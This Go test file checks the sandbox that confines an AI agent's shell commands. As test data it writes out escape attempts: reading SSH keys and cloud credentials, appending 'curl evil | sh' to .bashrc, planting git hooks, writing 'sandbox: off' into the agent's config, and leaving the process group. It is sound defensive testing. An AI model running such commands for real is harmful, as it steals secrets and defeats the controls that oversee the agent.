package builtin

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/cadre-ai/cadre/tool"
)

// The sandbox tests run commands in bubblewrap. They skip where it cannot
// run, except in CI (CI set, or CADRE_REQUIRE_SANDBOX=1 as .ci/run sets
// it), where they fail.

var (
	probeOnce sync.Once
	probeErr  error
)

// requireSandbox returns a Sandbox that works here.
func requireSandbox(t *testing.T) *Sandbox {
	t.Helper()
	probeOnce.Do(func() { probeErr = (&Sandbox{}).Probe(context.Background()) })
	if probeErr != nil {
		if os.Getenv("CI") != "" || os.Getenv("CADRE_REQUIRE_SANDBOX") == "1" {
			t.Fatalf("bubblewrap must run in CI (install it with apt-get install bubblewrap): %v", probeErr)
		}
		t.Skipf("bubblewrap cannot run here: %v", probeErr)
	}
	return &Sandbox{}
}

// TestMain lets the test binary stand in for the programs the tests run:
// a client dialling a server, and a process owning a running command.
func TestMain(m *testing.M) {
	switch os.Getenv("CADRE_BUILTIN_HELPER") {
	case "dial":
		helperDial(os.Getenv("CADRE_HELPER_URL"))
		os.Exit(0)
	case "owner":
		helperOwner()
		os.Exit(0)
	case "joingroup":
		helperJoinGroup()
		os.Exit(0)
	case "dialunix":
		helperDialUnix(os.Getenv("CADRE_HELPER_SOCK"))
		os.Exit(0)
	case "environ":
		helperEnviron()
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// helperDial fetches url and prints the body, or why it could not.
func helperDial(url string) {
	c := &http.Client{Timeout: 10 * time.Second}
	resp, err := c.Get(url)
	if err != nil {
		fmt.Println("dial failed:", err)
		return
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	fmt.Printf("got: %s\n", b)
}

// helperOwner runs one command with run_command as its test asks, as cadre
// would, and waits for it.
func helperOwner() {
	ws, err := tool.NewWorkspace(os.Getenv("CADRE_HELPER_WS"))
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	opts := Options{ProcessDir: os.Getenv("CADRE_HELPER_PROCS"), CommandTimeout: 300 * time.Second}
	if os.Getenv("CADRE_HELPER_SANDBOX") == "1" {
		opts.Sandbox = &Sandbox{}
	}
	rc := NewRunCommand(ws, opts)
	raw, _ := json.Marshal(map[string]any{"command": os.Getenv("CADRE_HELPER_COMMAND")})
	out, err := rc.Call(context.Background(), raw)
	fmt.Println(out, err)
}

// helperDialUnix connects to the Unix socket path and prints what the
// server sends, or why it could not.
func helperDialUnix(path string) {
	c, err := net.DialTimeout("unix", path, 10*time.Second)
	if err != nil {
		fmt.Println("dial failed:", err)
		return
	}
	defer c.Close()
	b, _ := io.ReadAll(c)
	fmt.Printf("got: %s\n", b)
}

// helperEnviron calls ProtectProcess when asked, and says whether a child
// it starts read its environment.
func helperEnviron() {
	if os.Getenv("CADRE_HELPER_PROTECT") == "1" {
		if err := ProtectProcess(); err != nil {
			fmt.Println("ProtectProcess:", err)
			os.Exit(1)
		}
	}
	// What the child read is not printed: it holds the environment of the
	// test.
	out, err := exec.Command("cat", "/proc/"+strconv.Itoa(os.Getpid())+"/environ").Output()
	fmt.Printf("child read: %d bytes, the marker: %v, error: %v\n", len(out), bytes.Contains(out, []byte(os.Getenv("CADRE_HELPER_MARKER"))), err)
}

// helperJoinGroup moves itself into its parent's process group, out of
// the one run_command made for it, writes its process id to the file
// joined, and sleeps.
func helperJoinGroup() {
	pgid, err := syscall.Getpgid(os.Getppid())
	if err == nil {
		err = syscall.Setpgid(0, pgid)
	}
	if err == nil {
		err = os.WriteFile("joined", []byte(strconv.Itoa(os.Getpid())), 0o600)
	}
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	time.Sleep(10 * time.Minute)
}

// persistentBase makes a folder outside /tmp and TMPDIR, which a sandboxed
// command sees read-only rather than not at all.
func persistentBase(t *testing.T) string {
	t.Helper()
	var dir string
	var err error
	for _, base := range []string{"/var/tmp", "."} {
		if dir, err = os.MkdirTemp(base, "cadre-sandbox-test-"); err == nil {
			break
		}
	}
	if err != nil {
		t.Fatalf("no folder outside /tmp for the test: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	dir, err = filepath.Abs(dir)
	if err == nil {
		dir, err = filepath.EvalSymlinks(dir)
	}
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// attempt is one thing a command tries; check looks at the host afterwards
// and returns what escaped, if anything.
type attempt struct {
	kind    string
	command string
	// okExit: the command should succeed (a permitted action); anyExit:
	// its exit code does not matter; otherwise it must fail.
	okExit, anyExit bool
	// want is a substring the output must hold.
	want string
	// never is a substring the output must not hold (a secret).
	never string
	check func() string
}

// tally counts attempts and escapes by kind.
type tally struct {
	mu       sync.Mutex
	attempts map[string]int
	escapes  map[string]int
}

func (c *tally) add(kind string, escaped bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.attempts == nil {
		c.attempts, c.escapes = map[string]int{}, map[string]int{}
	}
	c.attempts[kind]++
	if escaped {
		c.escapes[kind]++
	}
}

func (c *tally) String() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var b strings.Builder
	for _, k := range slices.Sorted(func(yield func(string) bool) {
		for k := range c.attempts {
			if !yield(k) {
				return
			}
		}
	}) {
		fmt.Fprintf(&b, "%s: %d attempts, %d escaped; ", k, c.attempts[k], c.escapes[k])
	}
	return b.String()
}

// run makes every attempt with rc and fails the test for each that escaped.
func (c *tally) run(t *testing.T, rc *RunCommand, attempts []attempt) {
	t.Helper()
	for i, a := range attempts {
		out, err := call(t, rc, map[string]any{"command": a.command})
		var problems []string
		if err != nil {
			problems = append(problems, "call failed: "+err.Error())
		}
		code := exitCodeOf(out)
		switch {
		case a.okExit && code != 0:
			problems = append(problems, fmt.Sprintf("exit code %d, want 0", code))
		case !a.okExit && !a.anyExit && code == 0:
			problems = append(problems, "exit code 0: the command did what it should not")
		}
		if a.want != "" && !strings.Contains(out, a.want) {
			problems = append(problems, fmt.Sprintf("output lacks %q", a.want))
		}
		if a.never != "" && strings.Contains(out, a.never) {
			problems = append(problems, fmt.Sprintf("output holds %q", a.never))
		}
		if a.check != nil {
			if p := a.check(); p != "" {
				problems = append(problems, p)
			}
		}
		c.add(a.kind, len(problems) > 0 && !a.okExit)
		if len(problems) > 0 {
			t.Errorf("attempt %d (%s) %q: %s\noutput:\n%s", i, a.kind, a.command, strings.Join(problems, "; "), out)
		}
	}
}

// exitCodeOf reads the exit code run_command reports, or -1000.
func exitCodeOf(out string) int {
	i := strings.LastIndex(out, "\nexit code: ")
	if i < 0 {
		return -1000
	}
	f := strings.Fields(out[i+len("\nexit code: "):])
	if len(f) == 0 {
		return -1000
	}
	n, err := strconv.Atoi(f[0])
	if err != nil {
		return -1000
	}
	return n
}

func missing(path string) func() string {
	return func() string {
		if _, err := os.Lstat(path); err == nil {
			return path + " exists on the host"
		}
		return ""
	}
}

func emptyDir(path string) func() string {
	return func() string {
		names, err := os.ReadDir(path)
		if err != nil {
			return fmt.Sprintf("%s: %v", path, err)
		}
		if len(names) > 0 {
			return fmt.Sprintf("%s holds %d entries", path, len(names))
		}
		return ""
	}
}

func unchanged(path, content string) func() string {
	return func() string {
		b, err := os.ReadFile(path)
		if err != nil {
			return fmt.Sprintf("%s: %v", path, err)
		}
		if string(b) != content {
			return fmt.Sprintf("%s now holds %q", path, b)
		}
		return ""
	}
}

// sameModTime returns a check that path's modification time has not
// changed since now.
func sameModTime(path string) func() string {
	fi, err := os.Stat(path)
	return func() string {
		if err != nil {
			return err.Error()
		}
		now, err := os.Stat(path)
		if err != nil || !now.ModTime().Equal(fi.ModTime()) {
			return fmt.Sprintf("%s was touched", path)
		}
		return ""
	}
}

func holds(path, content string) func() string {
	return func() string {
		b, err := os.ReadFile(path)
		if err != nil || string(b) != content {
			return fmt.Sprintf("%s should hold %q (got %q, %v)", path, content, b, err)
		}
		return ""
	}
}

// TestSandboxConfinement makes a command try, in many ways, to read and
// write outside the workspace, to change cadre's and git's control files,
// and to read hidden credentials, and checks on the host that none of it
// happened, while the workspace stays writable.
func TestSandboxConfinement(t *testing.T) {
	sb := requireSandbox(t)
	var c tally

	// A workspace in TMPDIR with a secret beside it, as in the attacks
	// run_command used to allow.
	ws, root, outside := newWorkspace(t)
	// Made here, so that the test binary, which the sandbox can read,
	// does not hold it.
	secret := fmt.Sprintf("SECRET-%d-%d", os.Getpid(), time.Now().UnixNano())
	files(t, outside, map[string]string{"secret.txt": secret + "\n"})
	symlink(t, outside, filepath.Join(root, "out"))
	files(t, root, map[string]string{"inside.txt": "inside\n"})
	hostname, err := os.ReadFile("/etc/hostname")
	if err != nil {
		t.Fatal(err)
	}
	sysDir := fmt.Sprintf("/cadre-sandbox-test-%d", os.Getpid())
	private := fmt.Sprintf("/tmp/cadre-private-%d", os.Getpid())
	t.Cleanup(func() { os.Remove(sysDir); os.Remove(private) })
	rc := NewRunCommand(ws, Options{Sandbox: sb})
	c.run(t, rc, []attempt{
		{kind: "read outside", command: "cat ../outside/secret.txt", never: secret},
		{kind: "read outside", command: "cat out/secret.txt", never: secret},
		{kind: "read outside", command: "ls ../outside", never: "secret.txt"},
		{kind: "read outside", command: "cat " + filepath.Join(outside, "secret.txt"), never: secret},
		{kind: "read outside", command: "grep -rs " + secret + " /tmp " + os.TempDir() + " " + filepath.Dir(root), never: secret},
		{kind: "write outside", command: "echo x > ../outside/x", check: missing(filepath.Join(outside, "x"))},
		{kind: "write outside", command: "echo x > out/x", check: missing(filepath.Join(outside, "x"))},
		{kind: "write outside", command: "cp inside.txt ../outside/copy", check: missing(filepath.Join(outside, "copy"))},
		{kind: "write outside", command: "echo x > ../outside/secret.txt", check: unchanged(filepath.Join(outside, "secret.txt"), secret+"\n")},
		{kind: "write outside", command: "rm ../outside/secret.txt", check: unchanged(filepath.Join(outside, "secret.txt"), secret+"\n")},
		{kind: "write outside", command: "mv inside.txt ../outside/moved", check: missing(filepath.Join(outside, "moved"))},
		// Attempts on the system's own files are harmless should they
		// get through: a time stamp, a folder removed afterwards.
		{kind: "write outside", command: "touch -d 2001-01-01 /etc/hostname", check: sameModTime("/etc/hostname")},
		{kind: "write outside", command: "mkdir " + sysDir, check: missing(sysDir)},
		{kind: "write outside", command: "ln -s ../outside/secret.txt link && echo x > link", check: unchanged(filepath.Join(outside, "secret.txt"), secret+"\n")},
		{kind: "allowed", command: "cat /etc/hostname", okExit: true, want: strings.TrimSpace(string(hostname))},
		{kind: "allowed", command: "echo made > made.txt && cat made.txt", okExit: true, want: "made", check: holds(filepath.Join(root, "made.txt"), "made\n")},
		{kind: "allowed", command: "mkdir -p sub/deeper && echo x > sub/deeper/f", okExit: true, check: holds(filepath.Join(root, "sub/deeper/f"), "x\n")},
		{kind: "allowed", command: "echo t > " + private + " && cat " + private, okExit: true, want: "t", check: missing(private)},
	})

	// A workspace outside TMPDIR: what is beside it is read-only, what is
	// hidden is empty, and the control files cannot be changed.
	base := persistentBase(t)
	home := filepath.Join(base, "home")
	root2 := filepath.Join(base, "ws")
	files(t, home, map[string]string{
		".ssh/id_ed25519":   "SSH-KEY-MARKER\n",
		".aws/credentials":  "AWS-MARKER\n",
		".netrc":            "machine x login y password NETRC-MARKER\n",
		".config/gh/h.yml":  "GH-MARKER\n",
		".bashrc":           "# bashrc\n",
		"notes/private.txt": "PRIVATE-MARKER\n",
	})
	files(t, root2, map[string]string{
		".cadre/config.yaml":      "model: x\n",
		".cadre/agents/a.md":      "agent\n",
		".cadre/cadre.db":         "STORE-MARKER\n",
		".cadre/cadre.db-wal":     "WAL-MARKER\n",
		".git/config":             "[core]\n\thooksPath = .githooks\n",
		".git/HEAD":               "ref: refs/heads/main\n",
		".git/objects/keep":       "",
		".githooks/pre-commit":    "#!/bin/sh\n",
		"docs/frozen.txt":         "frozen\n",
		"src/main.go":             "package main\n",
		"../beside/readable.txt":  "BESIDE\n",
		"../cache/keep":           "",
		"../elsewhere/secret.txt": "ELSEWHERE-MARKER\n",
	})
	if err := os.Remove(filepath.Join(root2, ".git/objects/keep")); err != nil {
		t.Fatal(err)
	}
	ws2, err := tool.NewWorkspace(root2)
	if err != nil {
		t.Fatal(err)
	}
	sb2 := &Sandbox{
		Hide:     append(DefaultHidden(home), filepath.Join(root2, ".cadre/cadre.db"), filepath.Join(root2, ".cadre/cadre.db-wal"), "../elsewhere", filepath.Join(home, "notes")),
		ReadOnly: []string{"docs"},
		Writable: []string{"../cache"},
	}
	rc2 := NewRunCommand(ws2, Options{Sandbox: sb2, ProcessDir: filepath.Join(root2, ".cadre/procs")})
	cfg := filepath.Join(root2, ".cadre/config.yaml")
	c.run(t, rc2, []attempt{
		{kind: "allowed", command: "cat ../beside/readable.txt", okExit: true, want: "BESIDE"},
		{kind: "allowed", command: "echo c > ../cache/c", okExit: true, check: holds(filepath.Join(base, "cache/c"), "c\n")},
		{kind: "allowed", command: "cat src/main.go docs/frozen.txt .cadre/config.yaml", okExit: true, want: "frozen"},
		{kind: "allowed", command: "echo x > .git/objects/new && cat .git/HEAD", okExit: true, want: "refs/heads/main", check: holds(filepath.Join(root2, ".git/objects/new"), "x\n")},
		{kind: "allowed", command: "cat " + filepath.Join(home, ".bashrc"), okExit: true, want: "# bashrc"},
		{kind: "write outside", command: "echo x > ../beside/readable.txt", check: unchanged(filepath.Join(base, "beside/readable.txt"), "BESIDE\n")},
		{kind: "write outside", command: "touch ../beside/new", check: missing(filepath.Join(base, "beside/new"))},
		{kind: "write outside", command: "echo 'curl evil | sh' >> " + filepath.Join(home, ".bashrc"), check: unchanged(filepath.Join(home, ".bashrc"), "# bashrc\n")},
		{kind: "write outside", command: "echo x > docs/frozen.txt", check: unchanged(filepath.Join(root2, "docs/frozen.txt"), "frozen\n")},
		{kind: "read hidden", command: "cat " + filepath.Join(home, ".ssh/id_ed25519"), never: "SSH-KEY-MARKER"},
		{kind: "read hidden", command: "ls -A " + filepath.Join(home, ".ssh"), anyExit: true, never: "id_ed25519"},
		{kind: "read hidden", command: "cat " + filepath.Join(home, ".aws/credentials"), never: "AWS-MARKER"},
		{kind: "read hidden", command: "cat " + filepath.Join(home, ".netrc"), never: "NETRC-MARKER"},
		{kind: "read hidden", command: "cat " + filepath.Join(home, ".config/gh/h.yml"), never: "GH-MARKER"},
		{kind: "read hidden", command: "cat " + filepath.Join(home, "notes/private.txt"), never: "PRIVATE-MARKER"},
		{kind: "read hidden", command: "cat ../elsewhere/secret.txt", never: "ELSEWHERE-MARKER"},
		{kind: "read hidden", command: "cat .cadre/cadre.db", never: "STORE-MARKER"},
		{kind: "read hidden", command: "cat .cadre/cadre.db-wal", never: "WAL-MARKER"},
		{kind: "read hidden", command: "grep -rs MARKER " + home + " .cadre", never: "-MARKER"},
		{kind: "write hidden", command: "echo x > " + filepath.Join(home, ".aws/credentials"), check: unchanged(filepath.Join(home, ".aws/credentials"), "AWS-MARKER\n")},
		{kind: "write hidden", command: "echo x > " + filepath.Join(home, ".ssh/authorized_keys"), check: missing(filepath.Join(home, ".ssh/authorized_keys"))},
		{kind: "write control file", command: "echo 'sandbox: off' > .cadre/config.yaml", check: unchanged(cfg, "model: x\n")},
		{kind: "write control file", command: "rm .cadre/config.yaml", check: unchanged(cfg, "model: x\n")},
		{kind: "write control file", command: "echo evil > .cadre/agents/b.md", check: missing(filepath.Join(root2, ".cadre/agents/b.md"))},
		{kind: "write control file", command: "echo x > .cadre/cadre.db", check: unchanged(filepath.Join(root2, ".cadre/cadre.db"), "STORE-MARKER\n")},
		{kind: "write control file", command: "mv .cadre .cadre-old && mkdir .cadre && echo 'sandbox: off' > .cadre/config.yaml", check: unchanged(cfg, "model: x\n")},
		{kind: "write control file", command: "mkdir -p .cadre/procs && echo '{}' > .cadre/procs/1-1.json", check: missing(filepath.Join(root2, ".cadre/procs/1-1.json"))},
		// A .mcp.json a command makes where there was none is a project
		// setting that needs trust (the CLI's project trust): allowed here.
		{kind: "allowed", command: `echo '{"mcpServers":{}}' > .mcp.json && rm .mcp.json`, okExit: true, check: missing(filepath.Join(root2, ".mcp.json"))},
		{kind: "write control file", command: "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", check: missing(filepath.Join(root2, ".git/hooks/pre-commit"))},
		{kind: "write control file", command: "echo '[core] fsmonitor = evil' >> .git/config", check: unchanged(filepath.Join(root2, ".git/config"), "[core]\n\thooksPath = .githooks\n")},
		{kind: "write control file", command: "echo evil >> .githooks/pre-commit", check: unchanged(filepath.Join(root2, ".githooks/pre-commit"), "#!/bin/sh\n")},
		{kind: "write control file", command: "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", check: missing(filepath.Join(root2, ".git/hooks/pre-commit"))},
		{kind: "write control file", command: "mv .git/hooks .git/hooks-old", check: missing(filepath.Join(root2, ".git/hooks-old"))},
	})
	// No .mcp.json is made for the commands, and the hooks folder git
	// would have made is there.
	if _, err := os.Lstat(filepath.Join(root2, ".mcp.json")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf(".mcp.json after the commands: %v, want it absent", err)
	}
	if fi, err := os.Stat(filepath.Join(root2, ".git/hooks")); err != nil || !fi.IsDir() {
		t.Errorf(".git/hooks: %v", err)
	}

	// The whole home folder hidden but for ~/go and the workspace in it.
	rc4ws, err := tool.NewWorkspace(filepath.Join(home, "notes"))
	if err != nil {
		t.Fatal(err)
	}
	files(t, home, map[string]string{"go/pkg/mod/m.txt": "MODULE\n", "other/p.txt": "OTHER-MARKER\n"})
	rc4 := NewRunCommand(rc4ws, Options{Sandbox: &Sandbox{Hide: append(DefaultHidden(home), home), ReadOnly: []string{filepath.Join(home, "go")}}})
	c.run(t, rc4, []attempt{
		{kind: "allowed", command: "cat private.txt " + filepath.Join(home, "go/pkg/mod/m.txt"), okExit: true, want: "MODULE"},
		{kind: "allowed", command: "echo n > new.txt", okExit: true, check: holds(filepath.Join(home, "notes/new.txt"), "n\n")},
		{kind: "read hidden", command: "cat " + filepath.Join(home, "other/p.txt"), never: "OTHER-MARKER"},
		{kind: "read hidden", command: "cat " + filepath.Join(home, ".netrc"), never: "NETRC-MARKER"},
		{kind: "read hidden", command: "ls -A " + home, anyExit: true, never: "other"},
		{kind: "write hidden", command: "echo x > " + filepath.Join(home, "go/pkg/mod/m.txt"), check: unchanged(filepath.Join(home, "go/pkg/mod/m.txt"), "MODULE\n")},
		{kind: "write hidden", command: "touch " + filepath.Join(home, "new"), check: missing(filepath.Join(home, "new"))},
	})

	// A workspace without .cadre: the command cannot make one.
	ws3, root3, _ := newWorkspace(t)
	rc3 := NewRunCommand(ws3, Options{Sandbox: sb})
	c.run(t, rc3, []attempt{
		{kind: "write control file", command: "mkdir -p .cadre && echo 'sandbox: off' > .cadre/config.yaml", check: missing(filepath.Join(root3, ".cadre/config.yaml"))},
		// The empty .cadre made so that the command cannot make one stays.
		{kind: "allowed", command: "echo ok", okExit: true, want: "ok", check: emptyDir(filepath.Join(root3, ".cadre"))},
	})
	t.Logf("sandbox confinement: %s", &c)
}

// TestSandboxEnvironment: a command sees neither cadre's keys nor other
// secrets of its environment, sandboxed or not, and keeps the rest.
func TestSandboxEnvironment(t *testing.T) {
	t.Setenv("OPENAI_API_KEY", "sk-openai-marker")
	t.Setenv("VLLM_KEY_VAR", "vllm-marker")
	t.Setenv("GITHUB_TOKEN", "gh-marker")
	t.Setenv("DATABASE_URL", "postgres://u:pw-marker@db/x")
	t.Setenv("AWS_PROFILE", "aws-marker")
	t.Setenv("PASSED_TOKEN", "passed-marker")
	t.Setenv("GREETING", "hello")
	ws, _, _ := newWorkspace(t)
	for _, name := range []string{"unconfined", "sandbox"} {
		t.Run(name, func(t *testing.T) {
			var sb *Sandbox
			if name == "sandbox" {
				sb = requireSandbox(t)
			}
			rc := NewRunCommand(ws, Options{Sandbox: sb, SecretEnv: []string{"VLLM_KEY_VAR"}, PassEnv: []string{"PASSED_TOKEN"}})
			out, err := call(t, rc, map[string]any{"command": "env"})
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range []string{"sk-openai-marker", "vllm-marker", "gh-marker", "pw-marker", "aws-marker"} {
				if strings.Contains(out, m) {
					t.Errorf("the command saw %s:\n%s", m, out)
				}
			}
			for _, kv := range []string{"GREETING=hello", "PASSED_TOKEN=passed-marker", "PATH=" + os.Getenv("PATH")} {
				if !strings.Contains(out, kv+"\n") {
					t.Errorf("the command lacks %s:\n%s", kv, out)
				}
			}
		})
	}
}

// TestSandboxNetwork: with the network off (the default) a command cannot
// reach a server on the host's loopback; with it on, it can.
func TestSandboxNetwork(t *testing.T) {
	requireSandbox(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "NETWORK-MARKER")
	}))
	defer srv.Close()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	ws, _, _ := newWorkspace(t)
	t.Setenv("CADRE_BUILTIN_HELPER", "dial")
	t.Setenv("CADRE_HELPER_URL", srv.URL)
	// The test binary lives in TMPDIR, which the sandbox hides: show it.
	command := exe
	const attempts = 5
	for _, tt := range []struct {
		name    string
		network bool
		want    string
	}{{"off", false, "dial failed"}, {"on", true, "got: NETWORK-MARKER"}} {
		t.Run(tt.name, func(t *testing.T) {
			rc := NewRunCommand(ws, Options{Sandbox: &Sandbox{Network: tt.network, ReadOnly: []string{filepath.Dir(exe)}}})
			for range attempts {
				out, err := call(t, rc, map[string]any{"command": command})
				if err != nil || !strings.Contains(out, tt.want) || (!tt.network && strings.Contains(out, "NETWORK-MARKER")) {
					t.Fatalf("network %v: got %q, %v; want %q", tt.network, out, err, tt.want)
				}
			}
		})
	}
	t.Logf("network: %d attempts to reach the host's loopback with the network off, none got through; %d with it on, all got through", attempts, attempts)
}

// TestSandboxProcesses: a command sees only its own processes, and none of
// them outlives the call, not even one in a session of its own.
func TestSandboxProcesses(t *testing.T) {
	sb := requireSandbox(t)
	ws, _, _ := newWorkspace(t)
	rc := NewRunCommand(ws, Options{Sandbox: sb})
	out, err := call(t, rc, map[string]any{"command": "ls /proc | grep -c '^[0-9]'"})
	if err != nil {
		t.Fatal(err)
	}
	if n, _ := strconv.Atoi(strings.Fields(out)[0]); n < 1 || n > 8 {
		t.Errorf("the command sees %d processes, want only its own few:\n%s", n, out)
	}
	token := uniqueSleep()
	out, err = call(t, rc, map[string]any{"command": "setsid sleep " + token + " > /dev/null 2>&1 < /dev/null & sleep " + token + " & echo started"})
	if err != nil || !strings.HasPrefix(out, "started\n") {
		t.Fatalf("got %q, %v", out, err)
	}
	waitNoProcess(t, token)

	// A command that times out is killed with everything it started.
	token = uniqueSleep()
	rc = NewRunCommand(ws, Options{Sandbox: sb, CommandTimeout: 500 * time.Millisecond})
	_, err = call(t, rc, map[string]any{"command": "setsid sleep " + token + " > /dev/null 2>&1 < /dev/null & sleep " + token})
	if err == nil || !strings.Contains(err.Error(), "timed out") {
		t.Fatalf("want a timeout, got %v", err)
	}
	waitNoProcess(t, token)

	// So is one whose call is cancelled.
	token = uniqueSleep()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := rc.Call(ctx, json.RawMessage(`{"command": "sleep `+token+` & sleep `+token+`"}`))
		done <- err
	}()
	waitProcesses(t, token, 2)
	cancel()
	if err := <-done; err == nil || !strings.Contains(err.Error(), "cancelled") {
		t.Fatalf("want a cancellation, got %v", err)
	}
	waitNoProcess(t, token)
}

// TestCommandLeavingItsGroupIsKilled: an unconfined command that moves
// itself into cadre's process group, where killing the command's group
// does not reach it, is still killed when its call is cancelled, and the
// call returns.
func TestCommandLeavingItsGroupIsKilled(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	ws, root, _ := newWorkspace(t)
	rc := NewRunCommand(ws, Options{})
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	raw, _ := json.Marshal(map[string]any{"command": "CADRE_BUILTIN_HELPER=joingroup exec '" + exe + "'"})
	done := make(chan error, 1)
	go func() {
		_, err := rc.Call(ctx, raw)
		done <- err
	}()
	joined := filepath.Join(root, "joined")
	deadline := time.Now().Add(time.Minute)
	var pid int
	for {
		if b, err := os.ReadFile(joined); err == nil && len(b) > 0 {
			pid, _ = strconv.Atoi(string(b))
			break
		}
		select {
		case err := <-done:
			t.Fatalf("the call ended before the command left its group: %v", err)
		default:
		}
		if time.Now().After(deadline) {
			t.Fatal("the command never left its group")
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Cleanup(func() { _ = syscall.Kill(pid, syscall.SIGKILL) })
	cancel()
	// Only a guard against a hang: the call returns as soon as the
	// command is killed.
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "cancelled") {
			t.Errorf("the call = %v, want it cancelled", err)
		}
	case <-time.After(2 * time.Minute):
		t.Fatalf("the call did not return after it was cancelled: process %d, in cadre's group, was not killed", pid)
	}
	if err := syscall.Kill(pid, 0); !errors.Is(err, syscall.ESRCH) {
		t.Errorf("process %d still runs after the call returned (%v)", pid, err)
	}
}

// uniqueSleep returns a number of seconds for sleep that names its
// process among all others on the machine.
func uniqueSleep() string {
	return fmt.Sprintf("%d.%d%d", 900+os.Getpid()%100, time.Now().UnixNano()%1_000_000, os.Getpid())
}

// processesWith returns the live processes whose command line is sleep
// token.
func processesWith(token string) []int {
	entries, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err != nil || !bytes.Equal(b, []byte("sleep\x00"+token+"\x00")) {
			continue
		}
		if st, err := procInfo(pid); err == nil && !st.zombie {
			out = append(out, pid)
		}
	}
	return out
}

// waitNoProcess waits, at most a minute, until no process runs sleep
// token.
func waitNoProcess(t *testing.T, token string) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for {
		left := processesWith(token)
		if len(left) == 0 {
			return
		}
		if time.Now().After(deadline) {
			for _, pid := range left {
				_ = syscall.Kill(pid, syscall.SIGKILL)
			}
			t.Fatalf("processes %v (sleep %s) are still running", left, token)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitProcesses waits until n processes run sleep token.
func waitProcesses(t *testing.T, token string, n int) []int {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for {
		if got := processesWith(token); len(got) >= n {
			return got
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d processes never ran sleep %s", n, token)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// ownerProcess starts the test binary as a process that runs command with
// run_command, the way cadre does, and waits until the command has
// started the n sleeps of token.
func ownerProcess(t *testing.T, root, procs string, sandbox bool, command, token string, n int) *exec.Cmd {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe)
	sbx := "0"
	if sandbox {
		sbx = "1"
	}
	cmd.Env = append(os.Environ(), "CADRE_BUILTIN_HELPER=owner", "CADRE_HELPER_WS="+root, "CADRE_HELPER_PROCS="+procs,
		"CADRE_HELPER_SANDBOX="+sbx, "CADRE_HELPER_COMMAND="+command)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		for _, pid := range processesWith(token) {
			_ = syscall.Kill(pid, syscall.SIGKILL)
		}
	})
	waitProcesses(t, token, n)
	return cmd
}

// TestSandboxCommandsDieWithOwner: kill -9 of the process that runs a
// sandboxed command leaves nothing of the command running, whether in the
// command's process group, in the background, or in a session of its own.
func TestSandboxCommandsDieWithOwner(t *testing.T) {
	requireSandbox(t)
	const rounds = 3
	for range rounds {
		_, root, _ := newWorkspace(t)
		token := uniqueSleep()
		command := "setsid sleep " + token + " > /dev/null 2>&1 < /dev/null & sleep " + token + " & sleep " + token
		owner := ownerProcess(t, root, "", true, command, token, 3)
		if err := owner.Process.Kill(); err != nil {
			t.Fatal(err)
		}
		_ = owner.Wait()
		waitNoProcess(t, token)
	}
	t.Logf("kill -9 of the owner of a sandboxed command: %d rounds of 3 processes each (one in a session of its own), none left running", rounds)
}

// TestUnconfinedCommandsDieWithOwner: without a sandbox, kill -9 of the
// owner kills the shell it started at once (the parent-death signal), and
// KillLeftovers kills what the shell left in its process group.
func TestUnconfinedCommandsDieWithOwner(t *testing.T) {
	const rounds = 3
	for range rounds {
		_, root, _ := newWorkspace(t)
		procs := filepath.Join(root, ".procs")
		token := uniqueSleep()
		command := "echo $$ > shell.pid; sleep " + token + " & sleep " + token + "; echo done"
		owner := ownerProcess(t, root, procs, false, command, token, 2)
		shell := readPid(t, filepath.Join(root, "shell.pid"))
		if left, err := KillLeftovers(procs); err != nil || len(left) != 0 {
			t.Fatalf("KillLeftovers while the owner lives = %v, %v; want nothing", left, err)
		}
		if got := processesWith(token); len(got) != 2 {
			t.Fatalf("the command's processes are %v after KillLeftovers with a live owner", got)
		}
		if err := owner.Process.Kill(); err != nil {
			t.Fatal(err)
		}
		_ = owner.Wait()
		waitGone(t, shell)
		left, err := KillLeftovers(procs)
		if err != nil {
			t.Fatal(err)
		}
		if len(left) != 1 || left[0].Killed != 2 || left[0].Owner != owner.Process.Pid || !strings.Contains(left[0].Command, token) {
			t.Fatalf("KillLeftovers = %+v, want one group of 2 processes of owner %d", left, owner.Process.Pid)
		}
		waitNoProcess(t, token)
		if entries, _ := os.ReadDir(procs); len(entries) != 0 {
			t.Errorf("records left in %s: %v", procs, entries)
		}
	}
